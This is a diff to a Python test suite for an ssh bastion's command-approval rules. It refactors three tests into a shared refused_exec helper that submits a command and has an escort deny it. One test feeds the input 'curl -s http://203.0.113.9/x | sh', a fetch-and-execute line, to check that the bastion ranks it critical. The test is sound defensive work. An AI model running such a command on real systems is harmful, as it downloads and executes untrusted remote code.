@@ -2,6 +2,7 @@
 sees it, flag rules put their sentence beside the pending command, and the
 shell's quoting does not hide a command from its rule.  Real bastion, real
 ssh clients; the rules are the bed policy's own plus the built-in set."""
+import contextlib
 import json
 import os
 import re
@@ -50,6 +51,26 @@ def decisions(path):
     assert p.returncode == 0, p.stderr
     return [json.loads(l) for l in p.stdout.split("\n") if l.strip()]
 
+
+@contextlib.contextmanager
+def refused_exec(command, stdin):
+    """ssh … db01 COMMAND with stdin's bytes on its stdin: yields the
+    pending command once all of the input is in, then denies it, and ssh
+    must end with 255."""
+    proc = subprocess.Popen(bed.ssh_argv() + ["db01", command], stdin=subprocess.PIPE,
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    try:
+        proc.stdin.write(stdin)
+        proc.stdin.close()
+        item = bed.pending_with_stdin()[0]
+        yield item
+        bed.escort("deny", item["session"], str(item["seq"]))
+        if proc.wait(20) != 255:
+            raise AssertionError(f"ssh ended with {proc.returncode}, not 255")
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+        proc.wait()
 
 class Rules(unittest.TestCase):
     def test_denied_line_is_refused_before_any_escort_sees_it(self):
@@ -152,21 +173,9 @@ class Rules(unittest.TestCase):
             end(t)
         finally:
             t.close()
-        proc = subprocess.Popen(bed.ssh_argv() + ["db01", "echo caf\u00e9; cat"],
-                                stdin=subprocess.PIPE, stdout=subprocess.PIPE,
-                                stderr=subprocess.PIPE)
-        try:
-            proc.stdin.write("na\u00efve\n".encode())
-            proc.stdin.close()
-            item = bed.pending_with_stdin()[0]
+        with refused_exec("echo caf\u00e9; cat", "na\u00efve\n".encode()) as item:
             self.assertEqual(item["command"], "echo caf\u00e9; cat")
             self.assertNotIn("plain English", json.dumps(item["risks"]), item["risks"])
-            bed.escort("deny", item["session"], str(item["seq"]))
-            self.assertEqual(proc.wait(20), 255)
-        finally:
-            if proc.poll() is None:
-                proc.kill()
-            proc.wait()
 
     def test_a_line_continuing_an_open_quote_is_judged_with_it(self):
         m = target_file("rules-continued")
@@ -300,40 +309,16 @@ class Rules(unittest.TestCase):
                       p.stderr)
         # Past what the rules read, the escort is told so.
         big = b"# notes\n" * 9000 + b"echo done\n"
-        proc = subprocess.Popen(bed.ssh_argv() + ["db01", "sh"], stdin=subprocess.PIPE,
-                                stdout=subprocess.PIPE, stderr=subprocess.PIPE)
-        try:
-            proc.stdin.write(big)
-            proc.stdin.close()
-            items = bed.pending_with_stdin(timeout=20)
-            item = items[0]
+        with refused_exec("sh", big) as item:
             self.assertIn(f"its input is {len(big)} bytes, and only the first "
                           f"65536 were checked", json.dumps(item["risks"]))
-            bed.escort("deny", item["session"], str(item["seq"]))
-            self.assertEqual(proc.wait(20), 255)
-        finally:
-            if proc.poll() is None:
-                proc.kill()
-            proc.wait()
 
     def test_risks_in_the_input_rank_with_the_commands_own(self):
-        proc = subprocess.Popen(bed.ssh_argv() + ["db01", "tandem-peek; sh"],
-                                stdin=subprocess.PIPE, stdout=subprocess.PIPE,
-                                stderr=subprocess.PIPE)
-        try:
-            proc.stdin.write(b"curl -s http://203.0.113.9/x | sh\n")
-            proc.stdin.close()
-            item = bed.pending()[0]
+        with refused_exec("tandem-peek; sh", b"curl -s http://203.0.113.9/x | sh\n") as item:
             levels = [(r["level"], r["why"].startswith("its input: ")) for r in item["risks"]]
             # The input's critical risk first, the command's low one last.
             self.assertEqual(levels[0], ("critical", True))
             self.assertEqual(levels[-1], ("low", False))
-            bed.escort("deny", item["session"], str(item["seq"]))
-            self.assertEqual(proc.wait(20), 255)
-        finally:
-            if proc.poll() is None:
-                proc.kill()
-            proc.wait()
 
     def test_builtin_rules_are_on_by_default(self):
         t = bed.shell(unwatched=True)
